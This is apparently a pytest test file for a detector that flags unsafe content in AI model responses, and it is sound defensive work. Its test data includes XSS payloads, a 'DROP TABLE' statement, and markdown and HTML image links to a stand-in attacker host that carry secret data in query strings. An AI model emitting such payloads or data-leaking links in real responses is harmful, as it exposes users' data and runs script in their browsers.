"""Unsafe output: executable markup, SQL and exfiltration links in responses."""

from __future__ import annotations

import pytest

from aiposture.detect.unsafe_output import UnsafeOutputDetector


@pytest.fixture(scope="module")
def out() -> UnsafeOutputDetector:
    return UnsafeOutputDetector(allowed_domains=["contoso.com"])


@pytest.mark.parametrize(("text", "kind"), [
    ("<script>alert(1)</script>", "SCRIPT_TAG"),
    ("<img src=x onerror=alert(1)>", "HTML_EVENT_HANDLER"),
    ("[click](javascript:alert(1))", "JAVASCRIPT_URL"),
    ("<iframe src='https://x.example'></iframe>", "ACTIVE_HTML"),
    ("DROP TABLE users;", "SQL_STATEMENT"),
    ("![a](https://evil.example/x.png?d=secretstuff)", "MARKDOWN_IMAGE"),
    ("<img src=\"https://evil.example/p.gif\">", "HTML_IMAGE"),
    ("[login](https://evil.example/login)", "MARKDOWN_LINK"),
])
def test_unsafe_output_found(out: UnsafeOutputDetector, text: str, kind: str) -> None:
    assert kind in {d.type for d in out.detect(text, "response")}


@pytest.mark.parametrize("text", [
    "![logo](https://cdn.contoso.com/logo.png)",  # allowlisted subdomain
    "[docs](https://contoso.com/docs)",
    "![chart](/static/chart.png)",                 # relative: same origin
    "Use a script to drop the stale rows from the report.",
])
def test_allowlisted_and_plain_text_pass(out: UnsafeOutputDetector, text: str) -> None:
    assert out.detect(text, "response") == []


def test_only_responses_by_default(out: UnsafeOutputDetector) -> None:
    assert out.detect("<script>x</script>", "prompt") == []
    assert out.detect("<script>x</script>", "document") == []


def test_url_carrying_data_scores_higher(out: UnsafeOutputDetector) -> None:
    (plain,) = out.detect("![a](https://evil.example/a.png)", "response")
    (data,) = out.detect("![a](https://evil.example/a.png?q=Project+Obsidian+budget)", "response")
    assert data.score > plain.score and data.explanation["carries_data"]
    assert data.explanation["domain"] == "evil.example"
